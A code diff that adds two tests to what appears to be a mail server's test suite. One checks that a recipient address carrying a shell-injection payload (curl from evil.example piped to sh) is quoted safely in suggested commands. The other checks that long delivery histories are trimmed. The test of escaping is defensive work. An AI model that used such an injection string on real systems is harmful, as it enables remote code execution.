@@ -370,6 +370,49 @@ TEST_CASE("controls in the words of others are escaped in everything that is tol
   says(*answer, "\\\\x9b[2J");
 }
 
+TEST_CASE("a stranger's address is a word of the shell, and no command, in what one is advised to type") {
+  House house;
+  const std::string id = House::last_id(
+      house.say({"EHLO c.example", "MAIL FROM:<bob@b.test>", "RCPT TO:<`curl${IFS}evil.example|sh'`@a.test>"}));
+  says(House::advice(house.story(id)), "angarium account add '`curl${IFS}evil.example|sh'\\''`@a.test', or");
+}
+
+TEST_CASE(
+    "limits: a story of very many attempts is told by the first and the last ones, and stands as all of them say") {
+  House house;
+  const std::string id = House::last_id(house.say(kLetter));
+  const WallTime began = [&] {
+    std::optional<WallTime> at;
+    const std::string prefix = trace::kind_prefix(trace::Lane::accepted, trace::RecordKind::story);
+    REQUIRE(
+        house.services->tablet().scan(prefix, trace::behind(prefix), {}, [&](std::string_view key, std::string_view) {
+          at = trace::story_in(key)->began;
+          return store::Step::stop;
+        }));
+    return at.value();
+  }();
+  std::vector<std::string> words;
+  for (int i = 0; i < 120; ++i) words.push_back("421 not now, " + std::to_string(i));
+  for (std::uint32_t number = 1; number <= 60; ++number) {
+    store::Batch batch;
+    trace::Event event{.at = {began.microseconds + number * 1'000'000}, .number = number};
+    // Each ends otherwise, so that none is told by another one.
+    for (std::size_t i = 0; i < 100; ++i)
+      event.fates.push_back({.kind = trace::Fate::Kind::owed,
+                             .address = std::string_view("alice@a.test"),
+                             .status = std::string_view("4.2.1"),
+                             .words = std::string_view(words[(i + number) % words.size()])});
+    trace::Ledger::happened(began, *trace::DeliveryId::parse(id), event, batch);
+    REQUIRE(house.services->tablet().commit_and_wait(std::move(batch)));
+  }
+  const json::object story = house.story(id);
+  const json::array& events = story.at("events").as_array();
+  CHECK(events.size() == 30);
+  CHECK(events.front().at("number").as_int64() == 1);
+  CHECK(events.back().at("number").as_int64() == 60);
+  says(House::words(story), "30 events until");
+}
+
 TEST_CASE("the record of an ordinary message is one key, and below 200 octets") {
   House house;
   house.say(kLetter);
